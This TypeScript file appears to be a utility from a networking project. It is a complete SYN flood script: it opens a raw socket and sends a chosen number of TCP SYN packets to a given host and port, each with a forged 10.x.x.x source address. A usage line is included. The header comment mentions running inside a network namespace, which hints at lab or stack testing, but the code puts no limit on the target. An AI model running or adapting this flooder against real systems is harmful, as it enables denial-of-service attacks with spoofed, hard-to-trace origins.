/**
 * Asks for connections from forged addresses, each SYN from another, in the network namespace that it is
 * started in. Addresses are of 10.0.0.0/8; a port goes with each sixteen million of them.
 *
 * Usage: node syn-flood.js DESTINATION PORT COUNT
 */
import { PROTOCOL, TCP_FLAG } from "../../base/index.ts";
import { RawSocket } from "../../system/index.ts";
import { buildPacket } from "../../wire/index.ts";

const FIRST_PORT = 1024;

const [destination = "", port = "", count = ""] = process.argv.slice(2);
const socket = RawSocket.open(4);
for (let number = 0; number < Number(count); number += 1) {
  const [high, middle, low] = [number >>> 16, number >>> 8, number].map((part) => part & 0xff);
  socket.send(
    buildPacket({
      source: `10.${high}.${middle}.${low}`,
      destination,
      protocol: PROTOCOL.TCP,
      sourcePort: FIRST_PORT + (number >>> 24),
      destinationPort: Number(port),
      flags: TCP_FLAG.SYN,
      sequence: number,
    }),
  );
}
socket.close();
